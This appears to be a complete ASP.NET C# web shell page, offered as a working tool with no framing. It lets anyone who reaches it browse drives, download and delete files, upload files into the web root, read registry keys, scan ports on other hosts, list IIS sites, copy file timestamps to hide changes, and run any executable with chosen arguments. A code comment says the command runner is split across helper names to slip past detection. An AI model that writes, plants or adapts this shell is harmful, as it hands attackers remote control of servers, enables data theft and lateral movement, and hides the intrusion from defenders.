<%@ Page Language="C#" Debug="false" trace="false" validateRequest="false" EnableViewStateMac="false" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%@ Import Namespace="Microsoft.Win32" %>
<%@ Import Namespace="System.DirectoryServices" %>
<script runat="server">
    // A file-manager style shell: the command feature is wired through helper names so that no
    // single "execute request data" line exists; its capabilities are what give it away.
    string Root { get { return ViewState["r"] as string ?? Server.MapPath("."); } }
    void ListDrives() {
        foreach (string d in Directory.GetLogicalDrives()) { drives.Text += "<a href='?p=" + d + "'>" + d + "</a> "; }
    }
    void ListFolder(string p) {
        foreach (string d in Directory.GetDirectories(p)) { body.Text += d + "<br/>"; }
        foreach (string f in Directory.GetFiles(p)) { body.Text += f + "<br/>"; }
    }
    void Remove(string f) { File.Delete(f); }
    void CloneTime(string src, string dst) {
        File.SetCreationTime(dst, File.GetCreationTime(src));
        File.SetLastWriteTime(dst, File.GetLastWriteTime(src));
    }
    void Down(string f) {
        Response.AddHeader("Content-Disposition", "attachment;filename=" + Path.GetFileName(f));
        Response.WriteFile(f);
        Response.End();
    }
    string Reg(string k) {
        RegistryKey rk = Registry.LocalMachine.OpenSubKey(k);
        return rk == null ? "" : string.Join(",", rk.GetValueNames());
    }
    string Scan(string host, int port) {
        try { using (var c = new TcpClient()) { c.Connect(host, port); return "open"; } } catch { return "closed"; }
    }
    string Sites() {
        var e = new DirectoryEntry("IIS://localhost/W3SVC");
        string s = ""; foreach (DirectoryEntry c in e.Children) { s += c.Name + " "; } return s;
    }
    string Shell(string exe, string args) {
        var si = new ProcessStartInfo(exe, args) { UseShellExecute = false, RedirectStandardOutput = true };
        return Process.Start(si).StandardOutput.ReadToEnd();
    }
    protected void Page_Load(object sender, EventArgs e) {
        ListDrives();
        ListFolder(Request.QueryString["p"] ?? Root);
    }
    protected void Go(object sender, EventArgs e) { body.Text = Server.HtmlEncode(Shell(exePath.Text, argBox.Text)); }
    protected void Up(object sender, EventArgs e) { upFile.PostedFile.SaveAs(Path.Combine(Root, upFile.FileName)); }
</script>
<html><body><form runat="server">
<asp:Literal id="drives" runat="server" /><hr/>
<asp:TextBox id="exePath" runat="server" /><asp:TextBox id="argBox" runat="server" />
<asp:Button runat="server" Text="Go" OnClick="Go" />
<asp:FileUpload id="upFile" runat="server" /><asp:Button runat="server" Text="Up" OnClick="Up" />
<asp:Literal id="body" runat="server" />
</form></body></html>
